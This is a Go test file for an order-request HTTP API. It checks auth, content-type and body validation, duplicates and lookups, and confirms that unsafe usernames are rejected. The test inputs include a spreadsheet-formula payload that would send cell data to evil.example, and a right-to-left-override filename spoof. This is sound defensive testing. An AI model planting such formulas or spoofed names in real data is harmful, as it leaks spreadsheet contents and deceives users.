package httpapi_test

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/jackc/pgx/v5/pgxpool"
	"github.com/stretchr/testify/require"

	"github.com/tidemark/tidemark/httpapi"
	"github.com/tidemark/tidemark/internal/harness/testkit"
	"github.com/tidemark/tidemark/jobs"
	"github.com/tidemark/tidemark/store"
)

type apiBundle struct {
	srv   *httptest.Server
	store *store.Store
	pool  *pgxpool.Pool // the test database's pool, for the test's own SQL
}

func setupAPI(t *testing.T) *apiBundle {
	t.Helper()
	pool, _ := testkit.Pool(t)
	st := store.New(pool)
	logger := testkit.Logger(t)
	client, err := jobs.NewClient(pool, jobs.ClientConfig{Retention: 24 * time.Hour, RescueAfter: 90 * time.Second},
		jobs.Deps{Store: st, TZ: time.UTC, Logger: logger})
	require.NoError(t, err)
	s := &httpapi.Server{Store: st, River: client, TZ: time.UTC, Callers: testCallers(t), Logger: logger}
	srv := httptest.NewServer(s.Handler())
	t.Cleanup(srv.Close)
	return &apiBundle{srv: srv, store: st, pool: pool}
}

func (b *apiBundle) do(t *testing.T, method, path, token, contentType, body string) (int, map[string]any) {
	t.Helper()
	req, err := http.NewRequest(method, b.srv.URL+path, strings.NewReader(body))
	require.NoError(t, err)
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	switch contentType {
	case "":
		req.Header.Set("Content-Type", "application/json")
	case "none":
	default:
		req.Header.Set("Content-Type", contentType)
	}
	resp, err := http.DefaultClient.Do(req)
	require.NoError(t, err)
	defer resp.Body.Close()
	var out map[string]any
	require.NoError(t, json.NewDecoder(resp.Body).Decode(&out))
	return resp.StatusCode, out
}

func (b *apiBundle) rowsAndJobs(t *testing.T) (rows, jobs int64) {
	t.Helper()
	c, err := b.store.OrderStatusCounts(context.Background())
	require.NoError(t, err)
	for _, n := range c {
		rows += n
	}
	kc, err := b.store.JobCounts(context.Background())
	require.NoError(t, err)
	for _, k := range kc {
		jobs += k.Count
	}
	return rows, jobs
}

// Every bad request is refused with a status and the field at fault, and
// inserts nothing; a good one inserts the row and its job; a second one for
// the same user-month is a 409.
func TestOrderRequests(t *testing.T) {
	t.Parallel()
	b := setupAPI(t)
	const good = `{"username":"tester","totalPrice":10000,"appliedYearMonth":"2025-02"}`
	for _, c := range []struct {
		name, token, ct, body string
		status                int
		field                 string
	}{
		{"no token", "", "", good, 401, "Authorization"},
		{"wrong token", "nope", "", good, 401, "Authorization"},
		{"a viewer", viewerToken, "", good, 403, ""},
		{"content type", token, "text/csv", good, 415, "Content-Type"},
		{"no content type", token, "none", good, 415, "Content-Type"},
		{"JSON-ish content type", token, "application/jsonfoo", good, 415, "Content-Type"},
		{"form", token, "application/x-www-form-urlencoded", good, 415, "Content-Type"},
		{"invalid UTF-8", token, "", "{\"username\":\"te\xffster\",\"totalPrice\":1,\"appliedYearMonth\":\"2025-02\"}", 400, "body"},
		{"empty body", token, "", ``, 400, "body"},
		{"malformed", token, "", `{"username":`, 400, "body"},
		{"two objects", token, "", good + good, 400, "body"},
		{"unknown field", token, "", `{"username":"a","totalPrice":1,"appliedYearMonth":"2025-02","x":1}`, 400, "x"},
		{"missing username", token, "", `{"totalPrice":1,"appliedYearMonth":"2025-02"}`, 400, "username"},
		{"missing price", token, "", `{"username":"a","appliedYearMonth":"2025-02"}`, 400, "totalPrice"},
		{"missing month", token, "", `{"username":"a","totalPrice":1}`, 400, "appliedYearMonth"},
		{"empty username", token, "", `{"username":" ","totalPrice":1,"appliedYearMonth":"2025-02"}`, 400, "username"},
		{"zero price", token, "", `{"username":"a","totalPrice":0,"appliedYearMonth":"2025-02"}`, 400, "totalPrice"},
		{"negative price", token, "", `{"username":"a","totalPrice":-1,"appliedYearMonth":"2025-02"}`, 400, "totalPrice"},
		{"decimal price", token, "", `{"username":"a","totalPrice":1.5,"appliedYearMonth":"2025-02"}`, 400, "totalPrice"},
		{"string price", token, "", `{"username":"a","totalPrice":"1","appliedYearMonth":"2025-02"}`, 400, "totalPrice"},
		{"bad month", token, "", `{"username":"a","totalPrice":1,"appliedYearMonth":"2025-13"}`, 400, "appliedYearMonth"},
		{"short month", token, "", `{"username":"a","totalPrice":1,"appliedYearMonth":"25-02"}`, 400, "appliedYearMonth"},
		{"too large", token, "", `{"username":"` + strings.Repeat("a", 1<<20) + `"}`, 413, "body"},
	} {
		status, out := b.do(t, http.MethodPost, "/v1/order-requests", c.token, c.ct, c.body)
		require.Equal(t, c.status, status, c.name)
		require.Equal(t, c.field, str(out["field"]), c.name)
		require.NotEmpty(t, out["error"], c.name)
		rows, jobs := b.rowsAndJobs(t)
		require.Zero(t, rows, c.name)
		require.Zero(t, jobs, c.name)
	}

	status, out := b.do(t, http.MethodPost, "/v1/order-requests", token, "Application/JSON; charset=utf-8", good)
	require.Equal(t, http.StatusAccepted, status, out)
	require.Equal(t, "PENDING", out["status"])
	id := int64(out["id"].(float64))
	rows, jobs := b.rowsAndJobs(t)
	require.Equal(t, int64(1), rows)
	require.Equal(t, int64(1), jobs)

	status, out = b.do(t, http.MethodPost, "/v1/order-requests", token, "", `{"username":"tester","totalPrice":5,"appliedYearMonth":"2025-02"}`)
	require.Equal(t, http.StatusConflict, status)
	require.Contains(t, out["error"], "already has an order request for 2025-02")
	rows, jobs = b.rowsAndJobs(t)
	require.Equal(t, int64(1), rows)
	require.Equal(t, int64(1), jobs)

	for _, who := range []string{"", viewerToken + "x"} {
		status, out = b.do(t, http.MethodGet, "/v1/order-requests/"+strconv.FormatInt(id, 10), who, "", "")
		require.Equal(t, http.StatusUnauthorized, status, "the rows are for operators only")
		require.NotContains(t, fmt.Sprint(out), "tester")
	}
	status, out = b.do(t, http.MethodGet, "/v1/order-requests/"+strconv.FormatInt(id, 10), viewerToken, "", "")
	require.Equal(t, http.StatusOK, status)
	require.Equal(t, "tester", out["username"])
	require.Equal(t, float64(10000), out["totalPrice"])
	require.Equal(t, "PENDING", out["status"])
	status, _ = b.do(t, http.MethodGet, "/v1/order-requests/999", viewerToken, "", "")
	require.Equal(t, http.StatusNotFound, status)
	status, out = b.do(t, http.MethodGet, "/v1/order-requests/abc", viewerToken, "", "")
	require.Equal(t, http.StatusBadRequest, status)
	require.Equal(t, "id", out["field"])
}

// A username that is not safe text is refused with 400 naming username and
// saying what is wrong, and inserts nothing: a right-to-left override, a
// spreadsheet formula, a zero width space, and a lone surrogate, which
// encoding/json decodes to U+FFFD. A Korean or emoji username is accepted
// and stored as it was sent.
func TestOrderRequestsUnsafeUsername(t *testing.T) {
	t.Parallel()
	b := setupAPI(t)
	for _, c := range []struct{ username, msg string }{
		{`evil\u202etxt.exe`, "contains a right-to-left override U+202E at character 5"},
		{"evil\u202etxt.exe", "contains a right-to-left override U+202E at character 5"},
		{`=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")`, "starts with '=' (a spreadsheet formula)"},
		{"@SUM(A1)", "starts with '@' (a spreadsheet formula)"},
		{`ki\u200bm`, "contains a zero width space U+200B at character 3"},
		{`kim\udc00`, "contains a replacement character U+FFFD at character 4 (text mangled before it arrived: invalid UTF-8 or a lone surrogate)"},
		{`\ud800`, "contains a replacement character U+FFFD at character 1 (text mangled before it arrived: invalid UTF-8 or a lone surrogate)"},
		{`kim\u0000`, "contains a NUL U+0000 at character 4"},
	} {
		status, out := b.do(t, http.MethodPost, "/v1/order-requests", token, "application/json",
			`{"username":"`+c.username+`","totalPrice":1,"appliedYearMonth":"2025-02"}`)
		require.Equal(t, http.StatusBadRequest, status, c.username)
		require.Equal(t, "username", out["field"], c.username)
		require.Equal(t, c.msg, out["error"], c.username)
		rows, jobs := b.rowsAndJobs(t)
		require.Zero(t, rows, c.username)
		require.Zero(t, jobs, c.username)
	}

	for _, u := range []string{"김철수", "홍길동 2세", `이영희\ud83d\ude00`, "\U0001F469\u200d\U0001F4BB"} {
		status, out := b.do(t, http.MethodPost, "/v1/order-requests", token, "application/json",
			`{"username":"`+u+`","totalPrice":1,"appliedYearMonth":"2025-02"}`)
		require.Equal(t, http.StatusAccepted, status, out)
		var want string
		require.NoError(t, json.Unmarshal([]byte(`"`+u+`"`), &want))
		status, out = b.do(t, http.MethodGet, "/v1/order-requests/"+strconv.FormatInt(int64(out["id"].(float64)), 10), viewerToken, "", "")
		require.Equal(t, http.StatusOK, status)
		require.Equal(t, want, out["username"])
	}
}
